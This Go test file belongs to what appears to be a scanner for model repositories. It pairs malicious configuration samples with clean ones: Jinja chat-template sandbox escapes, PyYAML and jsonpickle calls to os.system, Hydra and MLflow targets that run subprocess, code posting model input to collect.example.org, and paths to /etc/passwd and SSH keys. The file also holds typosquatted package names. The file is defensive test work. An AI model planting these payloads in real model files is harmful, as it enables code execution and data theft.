package hub

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"path"
	"strings"
	"testing"

	"github.com/lodemark/lodemark/internal/bound"
	"github.com/lodemark/lodemark/internal/model/inspect"
)

// folder is a repository of models: files by their paths. The first one is looked at.
type folder map[string]string

// folderEngine opens what lies beside a file of a folder, as the engine does.
type folderEngine struct {
	files folder
	dir   string
}

func (folderEngine) Member(context.Context, *inspect.Part, string, io.ReaderAt, int64) {}
func (folderEngine) Stream(context.Context, *inspect.Part, string, io.Reader, int64)   {}
func (folderEngine) Members(int) bool                                                  { return true }

func (e folderEngine) Beside(name string, most int64) ([]byte, error) {
	whole := path.Join(e.dir, name)
	if path.IsAbs(name) || strings.HasPrefix(whole, "..") {
		return nil, fmt.Errorf("open %s: %w", name, bound.ErrOutside)
	}
	s, ok := e.files[whole]
	switch {
	case !ok:
		return nil, fmt.Errorf("open %s: %w", name, fs.ErrNotExist)
	case int64(len(s)) > most:
		return nil, errors.New("too large")
	}
	return []byte(s), nil
}

func (e folderEngine) SizeBeside(name string) (int64, error) {
	b, err := e.Beside(name, 1<<40)
	return int64(len(b)), err
}

// look gives a file of a folder to the formats that claim it, as the engine does.
func look(files folder, name string) *inspect.Found {
	data := files[name]
	found := &inspect.Found{}
	p := inspect.NewPart(path.Base(name), strings.NewReader(data), int64(len(data)), found, folderEngine{files, path.Dir(name)})
	for _, f := range Formats() {
		if !f.Claims(p) {
			continue
		}
		if found.Format == "" {
			found.Format = f.Name
		}
		if err := f.Scan(context.Background(), p); err != nil {
			p.Say(inspect.NotRead, "damaged", -1, "%v", err)
		}
		if f.Name == "lfs-pointer" {
			break
		}
	}
	return found
}

// has says whether a reason of the verdict has the id.
func has(f *inspect.Found, v inspect.Verdict, id string) bool {
	for _, r := range f.Reasons {
		if r.Verdict == v && r.ID == id {
			return true
		}
	}
	return false
}

func TestCanaries(t *testing.T) {
	for _, f := range Formats() {
		name, data := f.Canary()
		found := look(folder{name: string(data)}, name)
		if found.Format != f.Name || found.Verdict < f.CanaryWant {
			t.Errorf("%s: canary is %s, %s", f.Name, found.Format, found.Verdict)
		}
		if f.Doc == "" || f.CanaryWant == inspect.Clean {
			t.Errorf("%s: nothing is wanted of its canary, or it has no doc", f.Name)
		}
	}
}

// Every pair is an attack and what it was made from: the attack must be seen, by the reason that is meant, and the other must
// be clean.
func TestPairs(t *testing.T) {
	const evil = "import os\nos.system(\"true\")\n"
	const calm = "import torch\nfrom torch import nn\n\nclass Model(nn.Module):\n    def forward(self, x):\n        return x\n"
	pairs := []struct {
		what      string
		file      string
		bad, good folder
		want      inspect.Verdict
		id        string
	}{
		{"auto_map of another repository", "config.json",
			folder{"config.json": `{"model_type":"x","auto_map":{"AutoModel":"else/where--modeling_x.Model"}}`},
			folder{"config.json": `{"model_type":"x","auto_map":{"AutoModel":"modeling_x.Model"}}`, "modeling_x.py": calm}, inspect.Dangerous, "config-remote-code"},
		{"auto_map of a tokenizer, in a list", "tokenizer_config.json",
			folder{"tokenizer_config.json": `{"auto_map":{"AutoTokenizer":[null,"else/where--tok.Fast"]}}`},
			folder{"tokenizer_config.json": `{"auto_map":{"AutoTokenizer":["tok.Slow",null]}}`, "tok.py": calm}, inspect.Dangerous, "config-remote-code"},
		{"auto_map inside a nested configuration", "config.json",
			folder{"config.json": `{"text_config":{"auto_map":{"AutoConfig":"a/b--c.D"}}}`},
			folder{"config.json": `{"text_config":{"model_type":"llama"}}`}, inspect.Dangerous, "config-remote-code"},
		{"code of its own that runs a program on import", "config.json",
			folder{"config.json": `{"auto_map":{"AutoModel":"modeling_x.Model"}}`, "modeling_x.py": evil},
			folder{"config.json": `{"auto_map":{"AutoModel":"modeling_x.Model"}}`, "modeling_x.py": calm}, inspect.Malicious, "code-executes"},
		{"code that its code imports", "config.json",
			folder{"config.json": `{"auto_map":{"AutoModel":"modeling_x.Model"}}`, "modeling_x.py": "from .helpers import y\n" + calm, "helpers.py": evil},
			folder{"config.json": `{"auto_map":{"AutoModel":"modeling_x.Model"}}`, "modeling_x.py": "from .helpers import y\n" + calm, "helpers.py": calm}, inspect.Malicious, "code-executes"},
		{"code that its code imports from the package", "config.json",
			folder{"config.json": `{"auto_map":{"AutoModel":"modeling_x.Model"}}`, "modeling_x.py": "from . import a, helpers\n", "helpers.py": evil},
			folder{"config.json": `{"auto_map":{"AutoModel":"modeling_x.Model"}}`, "modeling_x.py": "from . import a, helpers\n", "helpers.py": calm}, inspect.Malicious, "code-executes"},
		{"a constructor that runs a program", "config.json",
			folder{"config.json": `{"auto_map":{"AutoModel":"m.Model"}}`, "m.py": "import subprocess\nclass Model:\n    def __init__(self):\n        subprocess.run([\"true\"])\n"},
			folder{"config.json": `{"auto_map":{"AutoModel":"m.Model"}}`, "m.py": "class Model:\n    def __init__(self):\n        self.x = 1\n"}, inspect.Malicious, "code-executes"},
		{"a forward pass that sends its input away", "config.json",
			folder{"config.json": `{"auto_map":{"AutoModel":"m.Model"}}`, "m.py": "import requests\nclass Model:\n    def forward(self, x):\n        requests.post(\"https://collect.example.org\", data=x)\n"},
			folder{"config.json": `{"auto_map":{"AutoModel":"m.Model"}}`, "m.py": "import requests\ndef fetch_image(url):\n    return requests.get(url).content\n"}, inspect.Dangerous, "code-network"},
		{"a module whose path leads elsewhere", "config.json",
			folder{"config.json": `{"auto_map":{"AutoModel":"../../inert.Model"}}`},
			folder{"config.json": `{"auto_map":{"AutoModel":"LlamaModel"}}`}, inspect.Dangerous, "config-code-path"},
		{"a pipeline of its own from elsewhere", "config.json",
			folder{"config.json": `{"custom_pipelines":{"inert":{"impl":"a/b--pipe.P","pt":["AutoModel"]}}}`},
			folder{"config.json": `{"custom_pipelines":{"inert":{"impl":"pipe.P","pt":["AutoModel"]}}}`, "pipe.py": calm}, inspect.Dangerous, "config-remote-code"},
		{"code that is not there, with consent", "config.json",
			folder{"config.json": `{"trust_remote_code":true,"auto_map":{"AutoModel":"m.Model"}}`},
			folder{"config.json": `{"trust_remote_code":true,"auto_map":{"AutoModel":"m.Model"}}`, "m.py": calm}, inspect.Dangerous, "config-code-missing"},
		{"code that is not there", "config.json",
			folder{"config.json": `{"auto_map":{"AutoModel":"m.Model"}}`},
			folder{"config.json": `{"auto_map":{"AutoModel":"m.Model"}}`, "m.py": calm}, inspect.NotRead, "config-code-missing"},
		{"attention from a repository of kernels", "config.json",
			folder{"config.json": `{"_attn_implementation":"else/where:attention"}`},
			folder{"config.json": `{"_attn_implementation":"flash_attention_2"}`}, inspect.Dangerous, "config-kernel"},
		{"generation by code from elsewhere", "generation_config.json",
			folder{"generation_config.json": `{"custom_generate":"else/where"}`},
			folder{"generation_config.json": `{"do_sample":true,"temperature":0.7}`}, inspect.Dangerous, "config-fetches-code"},
		{"a chat template that leaves the sandbox", "tokenizer_config.json",
			folder{"tokenizer_config.json": `{"chat_template":"{{ cycler.__init__.__globals__.os.popen('id').read() }}"}`},
			folder{"tokenizer_config.json": `{"chat_template":"{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}"}`}, inspect.Malicious, "template-escape"},
		{"the second of named templates", "tokenizer_config.json",
			folder{"tokenizer_config.json": `{"chat_template":[{"name":"default","template":"{{ messages }}"},{"name":"tool","template":"{{ ''.__class__.__mro__ }}"}]}`},
			folder{"tokenizer_config.json": `{"chat_template":[{"name":"default","template":"{{ messages }}"},{"name":"tool","template":"{{ tools | tojson }}"}]}`}, inspect.Malicious, "template-escape"},
		{"a template under another key", "processor_config.json",
			folder{"processor_config.json": `{"prompt_template":"{{ x.__class__.__base__.__subclasses__() }}"}`},
			folder{"processor_config.json": `{"prompt_template":"{{ x }}"}`}, inspect.Malicious, "template-escape"},
		{"chat_template.json", "chat_template.json",
			folder{"chat_template.json": `{"chat_template":"{{ lipsum.__globals__['os'] }}"}`},
			folder{"chat_template.json": `{"chat_template":"{{ bos_token }}"}`}, inspect.Malicious, "template-escape"},
		{"chat_template.jinja", "chat_template.jinja",
			folder{"chat_template.jinja": "{{ (messages|attr('__class__')) }}"},
			folder{"chat_template.jinja": "{%- for m in messages -%}<|{{ m.role }}|>{{ m.content }}{%- endfor -%}"}, inspect.Malicious, "template-escape"},
		{"a pipeline whose component is a module with an effect", "model_index.json",
			folder{"model_index.json": `{"_class_name":"StableDiffusionPipeline","unet":["os","system"]}`},
			folder{"model_index.json": `{"_class_name":"StableDiffusionPipeline","unet":["diffusers","UNet2DConditionModel"],"text_encoder":["transformers","CLIPTextModel"],"safety_checker":[null,null]}`}, inspect.Malicious, "target-executes"},
		{"a pipeline whose own code runs a program", "model_index.json",
			folder{"model_index.json": `{"_class_name":["pipeline","P"],"unet":["diffusers","UNet2DModel"]}`, "pipeline.py": evil},
			folder{"model_index.json": `{"_class_name":["pipeline","P"],"unet":["diffusers","UNet2DModel"]}`, "pipeline.py": calm}, inspect.Malicious, "code-executes"},
		{"a component with code of its own", "model_index.json",
			folder{"model_index.json": `{"_class_name":"P","unet":["my_unet","U"]}`, "unet/my_unet.py": evil},
			folder{"model_index.json": `{"_class_name":"P","unet":["my_unet","U"]}`, "unet/my_unet.py": calm}, inspect.Malicious, "code-executes"},
		{"a module of a sentence transformer", "modules.json",
			folder{"modules.json": `[{"idx":0,"name":"0","path":"","type":"os.system"}]`},
			folder{"modules.json": `[{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"},{"idx":1,"name":"1","path":"1_Pooling","type":"sentence_transformers.models.Pooling"}]`}, inspect.Malicious, "target-executes"},
		{"a module's folder", "modules.json",
			folder{"modules.json": `[{"idx":0,"name":"0","path":"../../inert","type":"sentence_transformers.models.Transformer"}]`},
			folder{"modules.json": `[{"idx":0,"name":"0","path":"0_Transformer","type":"sentence_transformers.models.Transformer"}]`}, inspect.Dangerous, "config-path"},
		{"an activation that is imported", "config.json",
			folder{"config.json": `{"in_features":8,"activation_function":"subprocess.getoutput"}`},
			folder{"config.json": `{"in_features":8,"activation_function":"torch.nn.modules.activation.Tanh"}`}, inspect.Malicious, "target-executes"},
		{"an adapter of a model on another machine", "adapter_config.json",
			folder{"adapter_config.json": `{"peft_type":"LORA","base_model_name_or_path":"https://models.example.org/inert"}`},
			folder{"adapter_config.json": `{"peft_type":"LORA","base_model_name_or_path":"../llama-7b","r":8}`}, inspect.Dangerous, "config-base-model"},
		{"an adapter whose model class is imported from", "adapter_config.json",
			folder{"adapter_config.json": `{"peft_type":"LORA","auto_mapping":{"parent_library":"subprocess","base_model_class":"Popen"}}`},
			folder{"adapter_config.json": `{"peft_type":"LORA","auto_mapping":{"parent_library":"transformers.models.bert.modeling_bert","base_model_class":"BertModel"}}`}, inspect.Malicious, "target-executes"},
		{"jsonpickle", "config.json",
			folder{"config.json": `{"x":{"py/reduce":[{"py/function":"posix.system"},{"py/tuple":["true"]}]}}`},
			folder{"config.json": `{"x":{"py/object":"collections.OrderedDict"}}`}, inspect.Malicious, "target-executes"},
		{"a file of the system's", "tokenizer_config.json",
			folder{"tokenizer_config.json": `{"tokenizer_file":"/etc/passwd"}`},
			folder{"tokenizer_config.json": `{"tokenizer_file":"/root/.cache/huggingface/hub/tokenizer.json"}`}, inspect.Dangerous, "config-private-path"},
		{"code in a text", "config.json",
			folder{"config.json": `{"post_process":"__import__('os').system('true')"}`},
			folder{"config.json": `{"post_process":"sigmoid(x)"}`}, inspect.Dangerous, "config-code-text"},
		{"two values of a key", "config.json",
			folder{"config.json": `{"model_type":"bert","model_type":"gpt2"}`},
			folder{"config.json": `{"model_type":"bert","x":[NaN,-Infinity,1e-5]}`}, inspect.NotRead, "config-twice"},
		{"an index that leads out", "model.safetensors.index.json",
			folder{"model.safetensors.index.json": `{"metadata":{"total_size":1},"weight_map":{"w":"../../inert.safetensors"}}`},
			folder{"model.safetensors.index.json": `{"metadata":{"total_size":1},"weight_map":{"w":"model-00001-of-00001.safetensors"}}`}, inspect.Dangerous, "index-path"},
		{"an index of Keras, with a list of files for a layer", "model.weights.json",
			folder{"model.weights.json": `{"metadata":{"total_size":1},"weight_map":{"/layers/dense/vars":["model_00000.weights.h5","/inert/model_00001.weights.h5"]}}`},
			folder{"model.weights.json": `{"metadata":{"total_size":1},"weight_map":{"/layers/dense/vars":["model_00000.weights.h5","model_00001.weights.h5"],"/layers/a/vars":"model_00001.weights.h5"}}`}, inspect.Dangerous, "index-path"},
		{"an index that leads to the root, as Windows spells it", "pytorch_model.bin.index.json",
			folder{"pytorch_model.bin.index.json": `{"weight_map":{"w":"C:\\inert\\x.bin"}}`},
			folder{"pytorch_model.bin.index.json": `{"weight_map":{"w":"x.bin"}}`, "x.bin": "1"}, inspect.Dangerous, "index-path"},
		{"an index of which a file is missing", "model.safetensors.index.json",
			folder{"model.safetensors.index.json": `{"weight_map":{"a":"1.safetensors","b":"2.safetensors"}}`, "1.safetensors": "x"},
			folder{"model.safetensors.index.json": `{"weight_map":{"a":"1.safetensors","b":"2.safetensors"}}`, "1.safetensors": "x", "2.safetensors": "x"}, inspect.NotRead, "index-shard-missing"},
		{"Hydra's target", "config.yaml",
			folder{"config.yaml": "model:\n  _target_: subprocess.Popen\n  args: [id]\n"},
			folder{"config.yaml": "model:\n  _target_: torch.nn.Linear\n  in_features: 3\nnet:\n  _target_: src.models.Net\ntok:\n  _target_: transformers.AutoTokenizer.from_pretrained\n"}, inspect.Malicious, "target-executes"},
		{"Hydra's target that loads a pickle", "any.yaml",
			folder{"any.yaml": "weights:\n  _target_: torch.load\n  f: w.pt\n"},
			folder{"any.yaml": "weights:\n  _target_: torch.optim.Adam\n  lr: 0.1\n"}, inspect.Dangerous, "target-reaches"},
		{"Hydra's way to a method, by place", "train.yaml",
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_method\n  _args_: [os.system]\n"},
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_method\n  _args_: [torch.nn.functional.relu]\n"}, inspect.Dangerous, "target-executes"},
		{"Hydra's way to a method inside a value", "train.yaml",
			folder{"train.yaml": "f:\n  _target_: functools.partial\n  _args_: ['${get_method:os.system}', echo]\n"},
			folder{"train.yaml": "f:\n  _target_: functools.partial\n  _args_: ['${get_method:torch.nn.functional.relu}', '${model.size}']\n"}, inspect.Dangerous, "target-executes"},
		{"Hydra's way to a method without a name", "train.yaml",
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_method\n  _args_:\n    - echo x\n"},
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_method\n  _args_:\n    - ${model.act}\ng:\n  _target_: hydra.utils.get_class\n  path: '???'\n"}, inspect.Dangerous, "target-argument"},
		{"Hydra's way to a class of no name", "train.yaml",
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_class\n  path: 3\n"},
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_class\n  path: torch.nn.GELU\n"}, inspect.Dangerous, "target-argument"},
		{"Hydra's way to an object that nothing names", "train.yaml",
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_object\n  _args_: []\n"},
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_object\n  _partial_: true\n"}, inspect.Dangerous, "target-argument"},
		{"Hydra's way to make nothing", "train.yaml",
			folder{"train.yaml": "f:\n  _target_: hydra.utils.instantiate\n  x: 1\n"},
			folder{"train.yaml": "f:\n  _target_: hydra.utils.instantiate\n  config:\n    _target_: torch.nn.GELU\ng:\n  _target_: hydra.utils.call\n  _args_: [{_target_: torch.nn.GELU}]\n"}, inspect.Dangerous, "target-argument"},
		{"Hydra's way to a method without a name in JSON", "hparams.json",
			folder{"hparams.json": `{"model_type":"x","f":{"_target_":"hydra.utils.get_method","_args_":["echo x"]}}`},
			folder{"hparams.json": `{"model_type":"x","f":{"_target_":"hydra.utils.get_method","_args_":["torch.relu"]},"g":{"_target_":"hydra.utils.instantiate","config":{"_target_":"torch.nn.GELU"}}}`}, inspect.Dangerous, "target-argument"},
		{"Hydra's way to a method", "train.yaml",
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_method\n  path: os.system\n"},
			folder{"train.yaml": "f:\n  _target_: hydra.utils.get_method\n  path: torch.nn.functional.relu\n"}, inspect.Dangerous, "target-executes"},
		{"a builtin", "hparams.yaml",
			folder{"hparams.yaml": "x:\n  _target_: builtins.eval\n  _args_: ['1']\n"},
			folder{"hparams.yaml": "x:\n  _target_: builtins.dict\n"}, inspect.Malicious, "target-executes"},
		{"Lightning's class path", "config.yaml",
			folder{"config.yaml": "model:\n  class_path: os.system\n"},
			folder{"config.yaml": "model:\n  class_path: pytorch_lightning.demos.boring_classes.BoringModel\n"}, inspect.Malicious, "target-executes"},
		{"PyYAML's call", "hparams.yaml",
			folder{"hparams.yaml": "x: !!python/object/apply:os.system ['true']\n"},
			folder{"hparams.yaml": "x: !!python/object:argparse.Namespace\n  lr: 1\ny: !!python/tuple [1, 2]\n"}, inspect.Malicious, "yaml-python"},
		{"PyYAML's call, spelt out", "model.yaml",
			folder{"model.yaml": "x: !<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [id]\n"},
			folder{"model.yaml": "x: !<tag:yaml.org,2002:python/tuple> [1]\n"}, inspect.Malicious, "yaml-python"},
		{"PyYAML's call behind a handle", "model.yaml",
			folder{"model.yaml": "%TAG !p! tag:yaml.org,2002:python/object/\n---\nx: !p!apply:os.system [id]\n"},
			folder{"model.yaml": "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!tuple [1]\n"}, inspect.Malicious, "yaml-python"},
		{"PyYAML's call as a key", "model.yaml",
			folder{"model.yaml": "? !!python/object/apply:os.system ['true']\n: 1\n"},
			folder{"model.yaml": "? !!python/tuple [1]\n: 1\n"}, inspect.Malicious, "yaml-python"},
		{"PyYAML's call in what is otherwise no YAML", "config.yaml",
			folder{"config.yaml": "x: !!python/object/apply:os.system ['true']\n  y: [\n"},
			folder{"config.yaml": "x: !!python/tuple [1]\n"}, inspect.Malicious, "yaml-python"},
		{"SpeechBrain's call", "hyperparams.yaml",
			folder{"hyperparams.yaml": "x: !apply:os.system ['true']\n"},
			folder{"hyperparams.yaml": "x: !new:speechbrain.lobes.features.Fbank\n  n_mels: 80\ny: !name:torch.optim.Adam\n  lr: 0.1\nz: !apply:torch.manual_seed [1]\n"}, inspect.Malicious, "target-executes"},
		{"MLflow's loader", "MLmodel",
			folder{"MLmodel": "flavors:\n  python_function:\n    loader_module: os\n"},
			folder{"MLmodel": "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    env: {conda: conda.yaml, virtualenv: python_env.yaml}\n"}, inspect.Malicious, "target-executes"},
		{"MLflow's code", "MLmodel",
			folder{"MLmodel": "flavors:\n  python_function:\n    loader_module: mine\n    code: code\n", "code/mine.py": evil},
			folder{"MLmodel": "flavors:\n  python_function:\n    loader_module: mine\n    code: code\n", "code/mine.py": calm}, inspect.Malicious, "code-executes"},
		{"MLflow's path", "MLmodel",
			folder{"MLmodel": "flavors:\n  sklearn:\n    pickled_model: ../../inert.pkl\n"},
			folder{"MLmodel": "flavors:\n  sklearn:\n    pickled_model: model.pkl\n"}, inspect.Dangerous, "mlmodel-path"},
		{"another index", "requirements.txt",
			folder{"requirements.txt": "--extra-index-url https://packages.example.org/simple\ntorch==2.5.1\n"},
			folder{"requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu124\ntorch==2.5.1\n"}, inspect.Dangerous, "requirements-index"},
		{"a host that is trusted blindly", "requirements.txt",
			folder{"requirements.txt": "--trusted-host packages.example.org\ntorch\n"},
			folder{"requirements.txt": "torch>=2 ; python_version > '3.8' # the newest\n"}, inspect.Dangerous, "requirements-trusted-host"},
		{"a wheel from somewhere", "requirements.txt",
			folder{"requirements.txt": "torch @ https://packages.example.org/torch-2.5.1-py3-none-any.whl\n"},
			folder{"requirements.txt": "flash-attn @ https://github.com/Dao-AILab/flash-attention/releases/download/v2.7/x.whl\n-e .\n"}, inspect.Dangerous, "requirements-source"},
		{"a repository without encryption", "requirements.txt",
			folder{"requirements.txt": "-e git+http://git.example.org/x.git#egg=x\n"},
			folder{"requirements.txt": "git+https://github.com/huggingface/transformers@v4.46.0\n"}, inspect.Dangerous, "requirements-source"},
		{"a name that looks like another", "requirements.txt",
			folder{"requirements.txt": "transfomers==4.46.0\n"},
			folder{"requirements.txt": "transformers==4.46.0\nnumpy\nhuggingface_hub\nscikit-learn\ndataset\ntensorboardX\n"}, inspect.Dangerous, "requirements-lookalike"},
		{"two letters swapped, in UTF-16", "requirements.txt",
			folder{"requirements.txt": wide("nupmy==2.1.0\r\n")},
			folder{"requirements.txt": wide("numpy==2.1.0\r\n")}, inspect.Dangerous, "requirements-lookalike"},
		{"packages of a conda environment", "conda.yaml",
			folder{"conda.yaml": "channels: [conda-forge]\ndependencies:\n- python=3.11\n- pip:\n  - --index-url http://packages.example.org\n  - torch\n"},
			folder{"conda.yaml": "channels: [conda-forge]\ndependencies:\n- python=3.11\n- pip:\n  - torch==2.5.1\n"}, inspect.Dangerous, "requirements-index"},
		{"an endpoint's handler", "handler.py",
			folder{"handler.py": "import os\nos.popen('id')\nclass EndpointHandler:\n    pass\n"},
			folder{"handler.py": calm + "class EndpointHandler:\n    pass\n"}, inspect.Malicious, "code-executes"},
		{"Ollama's base", "Modelfile",
			folder{"Modelfile": "FROM /root/.ssh/id_rsa\n"},
			folder{"Modelfile": "FROM llama3.2\nTEMPLATE \"\"\"{{ .Prompt }}\nFROM http://not.example.org\n\"\"\"\nPARAMETER temperature 1\n"}, inspect.Dangerous, "modelfile-path"},
		{"Ollama's own store", "Modelfile",
			folder{"Modelfile": "FROM ../models/blobs/sha256-00\n"},
			folder{"Modelfile": "FROM /usr/share/ollama/.ollama/models/blobs/sha256-00\n"}, inspect.Dangerous, "modelfile-path"},
		{"Ollama's adapter", "Modelfile",
			folder{"Modelfile": "FROM llama3.2\nADAPTER ../../inert.gguf\n"},
			folder{"Modelfile": "FROM ./model.gguf\nADAPTER ./lora.gguf\n"}, inspect.Dangerous, "modelfile-path"},
		{"a card", "README.md",
			folder{"README.md": "---\nlicense: !!python/object/apply:os.system [id]\n---\n"},
			folder{"README.md": "---\nlicense: apache-2.0\nbase_model: a/b\ntags: [x]\n---\n# Model\n"}, inspect.Malicious, "yaml-python"},
		{"a pointer", "model.safetensors",
			folder{"model.safetensors": lfsPrefix + "v1\noid sha256:" + strings.Repeat("a", 64) + "\nsize 12\n"},
			folder{"config.json": "{}", "model.safetensors": ""}, inspect.NotRead, "lfs-pointer"},
		{"a tokenizer without a model, which those of KerasHub need not have", "tokenizer.json",
			folder{"tokenizer.json": `{"version":"1.0","added_tokens":[]}`},
			folder{"tokenizer.json": `{"module":"keras_hub.src.models.bert.bert_tokenizer","class_name":"BertTokenizer","config":{"lowercase":true},"registered_name":"keras_hub>BertTokenizer"}`}, inspect.NotRead, "tokenizer-shape"},
		{"a tokenizer that is cut off", "tokenizer.json",
			folder{"tokenizer.json": `{"version":"1.0","model":{"type":"BPE","vocab":{"a":0,"b":1},"merges":["a b"]`},
			folder{"tokenizer.json": `{"version":"1.0","added_tokens":[{"id":0,"content":"<s>"}],"model":{"type":"BPE","vocab":{"a":0,"b":1},"merges":["a b"]}}`}, inspect.NotRead, "damaged"},
	}
	for _, c := range pairs {
		found := look(c.bad, c.file)
		if found.Verdict != c.want || !has(found, c.want, c.id) {
			t.Errorf("%s: is %s (%s) %v, not %s for %s", c.what, found.Verdict, found.Format, found.Reasons, c.want, c.id)
		}
		if found := look(c.good, c.file); found.Verdict != inspect.Clean {
			t.Errorf("%s: what is honest is %s (%s) %v", c.what, found.Verdict, found.Format, found.Reasons)
		}
	}
}

func wide(s string) string {
	out := []byte{0xFF, 0xFE}
	for _, c := range []byte(s) {
		out = append(out, c, 0)
	}
	return string(out)
}
